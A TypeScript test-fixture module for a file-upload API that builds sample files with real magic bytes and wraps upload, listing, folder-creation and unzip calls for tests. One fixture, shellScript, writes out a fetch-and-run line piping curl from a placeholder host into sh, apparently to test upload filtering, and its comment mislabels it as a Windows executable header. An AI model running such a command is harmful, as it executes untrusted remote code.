import type { Readable } from 'node:stream';
import { TOKEN_HEADER } from '@mathbridge/contracts/constants';
import type { AttachmentList, FileNode } from '@mathbridge/contracts/files';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import yauzl from 'yauzl';
import { ZipFile } from 'yazl';
import { call } from '../../test/harness.ts';

/**
 * Test content with real magic bytes, padded to an exact size, and helpers that call the file
 * calls the way the web client does (multipart with ignore_sign=1, JSON calls signed).
 */

export { bmp, exe, jpg, pad, pdf, png } from '../../test/file-fixtures.ts';
import { pad, png } from '../../test/file-fixtures.ts';

/** A PNG whose image data (one IDAT chunk) is `data`: any bytes, still sniffed as PNG. */
export function pngWith(data: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.writeUInt32BE(data.length, 0);
  header.write('IDAT', 4, 'latin1');
  return Buffer.concat([png(33), header, data]);
}
/** An OLE compound file (what Word 97–2003 writes). */
export const doc = (size: number) =>
  pad(Buffer.from('d0cf11e0a1b11ae1000000000000000000000000000000003e000300feff0900', 'hex'), size);
export const rar = (size: number) => pad(Buffer.from('526172211a0700cf907300000d00000000000000', 'hex'), size);
export const sevenZip = (size: number) => pad(Buffer.from('377abcaf271c0004', 'hex'), size);
/** A Windows executable header. */
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
export const text = (content: string) => Buffer.from(content, 'utf8');

async function zipOf(entries: { name: string; data: Buffer }[]): Promise<Buffer> {
  const zip = new ZipFile();
  const mtime = new Date('2026-01-01T00:00:00Z');
  for (const entry of entries) zip.addBuffer(entry.data, entry.name, { compress: false, mtime });
  zip.end();
  const chunks: Buffer[] = [];
  for await (const chunk of zip.outputStream as Readable) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

/** A zip of exactly `size` bytes whose entries are `entries` plus one stored filler. */
async function zipOfSize(size: number, entries: { name: string; data: Buffer }[]): Promise<Buffer> {
  const overhead = (await zipOf([...entries, { name: 'filler.bin', data: Buffer.alloc(0) }])).length;
  const out = await zipOf([...entries, { name: 'filler.bin', data: Buffer.alloc(size - overhead) }]);
  if (out.length !== size) throw new Error(`zip fixture is ${out.length}, wanted ${size}`);
  return out;
}

export const zip = (size: number) => zipOfSize(size, [{ name: 'readme.txt', data: Buffer.from('hello') }]);

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;

/** A minimal Office Open XML word document, as Word lays it out ([Content_Types].xml first). */
export const docx = (size: number) =>
  zipOfSize(size, [
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    {
      name: 'word/document.xml',
      data: Buffer.from(
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
      ),
    },
  ]);

export interface UploadReply {
  status: number;
  message: string;
  result: FileNode | null;
  http: number;
}

/** A multipart body with one file part named `file`. */
export function multipart(filename: string, content: Buffer) {
  const boundary = `----mbtest${Math.random().toString(16).slice(2)}`;
  const body = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
    ),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { body, contentType: `multipart/form-data; boundary=${boundary}` };
}

/** POST upload/upload (or upload/update) as the web client sends it. */
export async function upload(
  app: FastifyInstance,
  token: string | undefined,
  filename: string,
  content: Buffer,
  query: Record<string, string | number> = {},
  options: { locale?: string; path?: string; contentLength?: number } = {},
): Promise<UploadReply> {
  const { body, contentType } = multipart(filename, content);
  const qs = new URLSearchParams({
    ...Object.fromEntries(Object.entries(query).map(([k, v]) => [k, String(v)])),
    ignore_sign: '1',
  });
  const headers: Record<string, string> = { 'content-type': contentType, 'accept-language': options.locale ?? 'en-US' };
  if (token) headers[TOKEN_HEADER] = token;
  if (options.contentLength !== undefined) headers['content-length'] = String(options.contentLength);
  const response = await app.inject({
    method: 'POST',
    url: `/api/${options.path ?? 'upload/upload'}?${qs}`,
    headers,
    payload: body,
  });
  return { ...(JSON.parse(response.body) as Omit<UploadReply, 'http'>), http: response.statusCode };
}

export async function list(app: FastifyInstance, token: string, params: Record<string, unknown> = {}) {
  return call<AttachmentList>(app, 'GET', 'upload/getAttachmentList', params, { token, locale: 'en-US' });
}

export async function mkdir(app: FastifyInstance, token: string, name: string, params: Record<string, unknown> = {}) {
  return call<FileNode>(
    app,
    'POST',
    'upload/createDirOrFile',
    { type: 'dir', name, ...params },
    { token, locale: 'en-US' },
  );
}

/** Opens a signed link the way a browser does: no token, no signature of ours. */
export const fetchLink = (app: FastifyInstance, url: string): Promise<LightMyRequestResponse> =>
  app.inject({ method: 'GET', url });

/** Every file of a zip, path → bytes (folders end with '/' and map to an empty buffer). */
export function unzip(buffer: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(buffer, { lazyEntries: true, decodeStrings: true, strictFileNames: true }, (error, zipfile) => {
      if (error || !zipfile) return reject(error ?? new Error('no zip'));
      const out = new Map<string, Buffer>();
      zipfile.on('entry', (entry: yauzl.Entry) => {
        if (entry.fileName.endsWith('/')) {
          out.set(entry.fileName, Buffer.alloc(0));
          zipfile.readEntry();
          return;
        }
        zipfile.openReadStream(entry, (err, stream) => {
          if (err || !stream) return reject(err ?? new Error('no stream'));
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('end', () => {
            out.set(entry.fileName, Buffer.concat(chunks));
            zipfile.readEntry();
          });
          stream.on('error', reject);
        });
      });
      zipfile.on('end', () => resolve(out));
      zipfile.on('error', reject);
      zipfile.readEntry();
    });
  });
}
